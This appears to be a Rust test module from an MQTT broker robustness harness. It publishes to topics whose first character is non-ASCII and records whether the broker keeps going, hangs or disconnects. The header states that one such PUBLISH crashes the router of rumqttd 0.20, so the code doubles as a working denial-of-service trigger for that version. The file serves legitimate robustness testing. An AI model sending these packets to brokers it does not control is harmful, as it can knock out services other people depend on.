//! One PUBLISH whose topic begins with a character beyond ASCII kills the router of rumqttd 0.20.

use std::sync::Arc;

use crate::abuse::arena::Arena;
use crate::abuse::attack::{Attack, Fault, Findings, Needs};
use crate::abuse::packet::{self, QOS1, VERSIONS};
use crate::abuse::peer::Ending;

pub(super) const ATTACK: Attack = Attack {
    name: "non-ascii-topic",
    what: "publishes to topics whose first character is not ASCII",
    needs: Needs::Client,
    run: |arena| Box::pin(run(arena)),
};

async fn run(arena: Arc<Arena>) -> Result<Findings, Fault> {
    let (mut taken, mut closed) = (0, 0);
    for version in VERSIONS {
        for first in ["é", "日", "\u{1f916}", "\u{7f}", "\u{fffe}"] {
            let mut peer = arena.client(version).await?;
            let topic = format!("{first}{}", arena.topic("x"));
            // Neither is owed an answer of a certain kind: the broker may have other plans for such topics.
            peer.send(&packet::subscribe(version, 1, &[&topic], 0))
                .await?;
            let publish = packet::publish(version, QOS1, &topic, 2, b"x");
            let sent = peer.send(&[&publish[..], &packet::PING].concat()).await;
            match peer.until_closed().await? {
                Ending::GoesOn if sent.is_ok() => taken += 1,
                Ending::Hangs => return Err(Fault::new(format!("silence after {topic:?}"))),
                Ending::GoesOn | Ending::Closed(_) => closed += 1,
            }
        }
    }
    Ok(Findings::said(format!("took {taken}, hung up on {closed}")))
}
